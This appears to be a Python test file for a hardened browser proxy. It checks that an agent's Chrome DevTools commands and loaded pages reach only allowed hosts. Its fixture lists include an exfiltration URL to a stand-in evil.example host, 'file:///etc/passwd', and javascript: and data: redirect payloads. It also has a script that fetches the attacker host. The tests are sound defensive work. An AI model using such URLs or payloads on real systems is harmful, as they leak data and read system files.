"""`/cdp` with a real browser behind it: what the agent may make it load, and what the pages may.

The browser is Chromium on loopback in the place of Browser Run; what Browser Run would bind besides, the guardrails of the
session, is only shown to be asked for.
"""

import json
import shutil

from worker import REAL, SHOWN, Worker, ours

PAGE = "https://docs.example.com/guide/page"
NEVER = ["https://evil.example/collect?d=stolen", "http://docs.example.com/guide/page", "https://docs.example.com/private/x",
         "https://docs.example.com:8443/guide/page", "https://127.0.0.1/", "file:///etc/passwd", "chrome://version",
         "data:text/html,<script>location='https://evil.example/'</script>", "javascript:location='https://evil.example/'",
         "view-source:https://evil.example/"]
PAUSE = 2500


def navigate(url, number=1):
    return {"id": number, "method": "Page.navigate", "params": {"url": url}}


def errors(answer):
    return [it["error"]["message"] for it in map(json.loads, answer.get("heard", [])) if "error" in it]


def check_navigation(checks, worker):
    shown = SHOWN["CDP_SECRET"]
    answer, asked, lines = worker.commands(*[navigate(url, number) for number, url in enumerate(NEVER)], secret=shown, pause=30)
    logged = [it for it in ours(lines) if it["moltctl"] == "browser.deny"]
    checks.that("what the rules do not name is not navigated to, and that is logged", len(errors(answer)) == len(NEVER)
                and not asked and len(logged) == len(NEVER), f"{answer}\n{asked}\n{lines}")
    checks.that("  and the log has no path and no query", not [it for it in lines if "stolen" in it or "/collect" in it], lines)
    scripts = [
        {"id": 1, "method": "Runtime.evaluate", "params": {"expression": "fetch('https://evil.example/x')"}},
        {"id": 2, "method": "Page.setContent", "params": {"html": "<img src='https://evil.example/x'>"}},
        {"id": 3, "method": "Page.addScriptToEvaluateOnNewDocument", "params": {"source": "1"}},
        {"id": 4, "method": "Target.sendMessageToTarget", "params": {"message": json.dumps(navigate(NEVER[0]))}},
        {"id": 5, "method": "Fetch.disable"},
        {"id": 6, "method": "Unheard.of"},
    ]
    answer, asked, _ = worker.commands(*scripts, secret=shown, pause=30)
    checks.that("scripts, and what no table names, are refused where `evaluate` is off",
                len(errors(answer)) == len(scripts) and not asked, f"{answer}\n{asked}")
    answer, asked, _ = worker.commands({"id": 1, "method": "Browser.getVersion"}, secret=shown, pause=300)
    checks.that("what only looks goes through", "Chrome" in str(answer.get("heard")), answer)
    answer, _, _ = worker.commands({"id": 1}, secret=shown, pause=100)
    checks.same("what is no command ends the connection", answer.get("close"), 1007)


def check_pages(checks, worker, stock):
    begun = worker.ask("/begun")
    checks.that("every session is begun with guardrails of the rules' hosts",
                begun and all(it == {"guardrails": {"allowedDomains": ["docs.example.com"]}} for it in begun), begun)
    _, asked, lines = worker.commands(navigate(PAGE), secret=SHOWN["CDP_SECRET"], pause=PAUSE)
    checks.that("a page that the rules name is loaded, with what it asks for from there",
                {"docs.example.com/guide/page", "docs.example.com/guide/good.png", "docs.example.com/guide/good.json",
                 "docs.example.com/guide/inner"} <= set(asked), f"{asked}\n{lines}")
    out = sorted(it for it in asked if not it.startswith("docs.example.com/guide/"))
    checks.same("nothing else that it asks for leaves the browser", out, [])
    _, asked, _ = worker.commands(navigate(f"{PAGE}?away"), secret=SHOWN["CDP_SECRET"], pause=PAUSE)
    checks.same("nor where it goes by itself", [it for it in asked if "away" in it], ["docs.example.com/guide/page?away"])
    _, asked, _ = worker.commands(navigate("https://docs.example.com/guide/moved"), secret=SHOWN["CDP_SECRET"], pause=PAUSE)
    checks.same("nor where it is sent", asked, ["docs.example.com/guide/moved"])
    _, asked, _ = stock.commands(navigate(PAGE), secret=REAL["CDP_SECRET"], pause=PAUSE)
    out = {it for it in asked if it.startswith("evil.example")}
    checks.that("  without the overlay the page gets out in every way it tries",
                {f"evil.example/{way}" for way in ("image", "frame", "style", "script", "fetch", "beacon", "events", "worker",
                                            "socket", "worker-socket", "popup", "service")} <= out, asked)
    _, asked, _ = stock.commands(navigate(NEVER[0]), secret=REAL["CDP_SECRET"], pause=PAUSE)
    checks.that("  and the agent anywhere", "evil.example/collect?d=stolen" in asked, asked)


def check_scripts(checks, build, browser):
    """`evaluate = true`: a script may run, and what it asks for is judged all the same."""
    script = "Promise.all([fetch('https://evil.example/x').catch(()=>0), fetch('/guide/by-script').catch(()=>0)]).then(()=>'ran')"
    with Worker(build, "scripts", browser=browser) as worker:
        worker.props = dict(worker.props)
        answer, asked, _ = worker.commands(navigate("https://docs.example.com/guide/inner"), {
            "id": 2, "method": "Runtime.evaluate", "params": {"expression": script}}, secret=SHOWN["CDP_SECRET"], pause=PAUSE)
        checks.that("a script may run where `evaluate` is on, and reaches only what the rules name",
                    "ran" in str(answer.get("heard")) and "docs.example.com/guide/by-script" in asked
                    and not [it for it in asked if it.startswith("evil")], f"{answer}\n{asked}")


def check(checks, builds):
    browser = shutil.which("chromium-headless-shell") or ""
    if not checks.that("there is a browser", browser):
        return
    with Worker(builds["hardened"], "pages", browser=browser) as worker:
        check_navigation(checks, worker)
        with Worker(builds["stock"], "pages-stock", browser=browser) as stock:
            stock.props = stock.props | {"enableInternet": True}
            check_pages(checks, worker, stock)
    check_scripts(checks, builds["scripts"], browser)
